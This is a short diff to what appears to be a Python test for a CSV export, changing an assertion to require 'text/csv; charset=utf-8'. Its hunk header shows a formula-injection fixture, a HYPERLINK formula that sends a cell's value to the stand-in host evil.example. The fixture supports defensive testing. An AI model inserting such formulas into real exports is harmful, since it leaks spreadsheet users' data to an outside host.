@@ -19,7 +19,8 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
 
 
 def csv_rows(response):
-    assert response["Content-Type"] == "text/csv"
+    # Said, not left to guess: without a charset a consumer may read the Chinese as ASCII.
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
     text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
     return list(csv.reader(io.StringIO(text)))
 
